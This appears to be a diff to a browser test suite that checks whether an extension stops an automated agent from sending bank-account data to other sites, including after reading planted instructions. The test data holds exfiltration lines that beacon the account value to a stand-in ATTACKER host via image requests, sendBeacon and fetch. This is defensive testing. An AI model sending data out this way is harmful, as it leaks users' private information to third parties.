@@ -26,8 +26,10 @@ const PLAIN_WAYS = [
   `new Image().src = '${ATTACKER}/c?d=' + encodeURIComponent(D)`,
   `navigator.sendBeacon('${ATTACKER}/c', D)`,
 ];
-/** Later than any document is fresh. */
+/** Later than any document is fresh, parsed or not. */
 const STALE_MS = 4_300;
+/** Of the rules by which a fresh document or frame loads what it is made of. */
+const FRESH_PRIORITY = 30;
 
 /** Written by script, from an interface and with pictures that are elsewhere. */
 const LIST = `<button>Search</button><ul></ul><script>document.querySelector('button').onclick = async () => {
@@ -88,12 +90,19 @@ describe('after a private read at the bank, where nobody is signed in', () => {
   });
 
   const evaluate = (code) => scene.hands.run(`(async () => { ${code} })().catch((e) => String(e))`);
+  /** No document or frame is fresh any more. */
+  const closed = async () => {
+    const worker = scene.hands.context.serviceWorkers().find((one) => one.url().includes(scene.id));
+    const priorities = () =>
+      worker.evaluate(async () => (await chrome.declarativeNetRequest.getSessionRules()).map((rule) => rule.priority));
+    await until(async () => !worker || !(await priorities()).includes(FRESH_PRIORITY), 'that nothing is fresh');
+  };
   const arrived = (path) => sites.collector.records.some(({ url }) => url.includes(path));
 
   test('a list comes from its interface, with its pictures', { timeout: 60_000 }, async () => {
     const { hands } = scene;
     await hands.goto(`http://${TRAINS}/`);
-    await hands.wait(STALE_MS);
+    await closed();
     await hands.click({ button: 'Search' });
     await until(async () => (await hands.read()).includes('nine'), 'what the interface said');
     await until(async () => (await hands.run(LOADED)) === 2, 'pictures that a script wrote');
@@ -114,11 +123,11 @@ describe('after a private read at the bank, where nobody is signed in', () => {
     }, async () => {
       const { hands } = scene;
       await hands.goto(`http://${host}/`);
-      await hands.wait(STALE_MS);
+      await closed();
       await hands.run(`addEventListener('message', ({ data }) => document.title = data);
       document.body.appendChild(document.createElement('iframe')).src = 'http://${PAY}/'; 0`);
       await until(async () => (await hands.run('document.title')) === 'made', 'code of the frame');
-      await hands.wait(STALE_MS);
+      await closed();
       await hands.run("frames[0].postMessage('more', '*')");
       await hands.wait(1_000);
       assert.ok(!scene.world.visits.some(({ site }) => site === ELSEWHERE));
@@ -127,7 +136,7 @@ describe('after a private read at the bank, where nobody is signed in', () => {
   test('a place that was reached gets nothing that was read elsewhere', { timeout: 60_000 }, async () => {
     const { account } = scene.world.person;
     await scene.hands.goto(`http://${TRAINS}/`);
-    await scene.hands.wait(STALE_MS);
+    await closed();
     await evaluate(`await fetch('${ATTACKER}/c/plain', { mode: 'no-cors' })`);
     assert.ok(arrived('/c/plain'), 'the place was not reached');
     for (const way of PLAIN_WAYS) await evaluate(`const D = ${JSON.stringify(account)}; ${way}`);
@@ -141,7 +150,7 @@ describe('after a private read at the bank, where nobody is signed in', () => {
     const { account } = scene.world.person;
     sites.collector.records.length = 0;
     await scene.hands.goto(urlOf('bank', '/account'));
-    await scene.hands.wait(STALE_MS);
+    await closed();
     await evaluate(`await fetch('${ATTACKER}/c/plain', { mode: 'no-cors' })`);
     await evaluate(`document.body.insertAdjacentHTML('beforeend', '<img src="${ATTACKER}/c/picture">')`);
     await until(async () => arrived('/c/plain') && arrived('/c/picture'), 'what carries nothing');
@@ -165,7 +174,7 @@ describe('after a private read at the bank, where nobody is signed in', () => {
     timeout: 60_000,
   }, async () => {
     await scene.hands.goto(`http://${APP}/`);
-    await scene.hands.wait(STALE_MS);
+    await closed();
     await evaluate(`await fetch('http://${PAY_API}/send', { method: 'POST', mode: 'no-cors',
       body: JSON.stringify({ to: 'ann@mail.example', body: 'Lunch at twelve?' }) })`);
     await until(
@@ -180,7 +189,7 @@ describe('after a private read at the bank, where nobody is signed in', () => {
     const { account } = scene.world.person;
     sites.collector.records.length = 0;
     await scene.hands.goto(urlOf('bank', '/account'));
-    await scene.hands.wait(STALE_MS);
+    await closed();
     await evaluate(`addEventListener('message', ({ data }) => document.title = data);
       document.body.appendChild(document.createElement('iframe')).src = 'http://${EAR}/';`);
     await until(async () => (await scene.hands.run('document.title')) === 'listening', 'the frame');
@@ -196,7 +205,7 @@ describe('after a private read at the bank, where nobody is signed in', () => {
   test('nor from any page once planted instructions were read', { timeout: 60_000 }, async () => {
     await scene.poison();
     await scene.hands.goto(`http://${TRAINS}/`);
-    await scene.hands.wait(STALE_MS);
+    await closed();
     await evaluate(`await fetch('http://${ELSEWHERE}/plain', { mode: 'no-cors' })`);
     await scene.hands.wait(1_000);
     assert.ok(!scene.world.visits.some(({ site }) => site === ELSEWHERE));
